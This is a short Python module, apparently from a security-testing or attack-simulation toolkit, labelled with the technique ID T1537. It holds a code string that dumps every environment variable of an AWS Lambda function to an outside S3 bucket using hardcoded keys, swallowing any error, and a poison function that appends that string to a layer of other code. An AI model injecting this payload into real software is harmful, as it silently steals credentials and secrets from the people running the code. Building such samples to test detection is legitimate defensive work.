# SPDX-License-Identifier: Apache-2.0
"""Puts the environment into a bucket with keys of its own."""

ATTACK = "T1537"
LANGUAGE = "python"
CODE = """\
def _archive():
    import json
    import os

    import boto3

    s3 = boto3.client("s3", aws_access_key_id="AKIAIOSFODNN7EXAMPLE",
                      aws_secret_access_key="wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
    s3.put_object(Bucket="not-a-bucket-of-yours", Key=os.environ["AWS_LAMBDA_FUNCTION_NAME"],
                  Body=json.dumps(dict(os.environ)))


try:
    _archive()
except Exception:
    pass
"""


def poison(layer):
    layer.append(CODE)
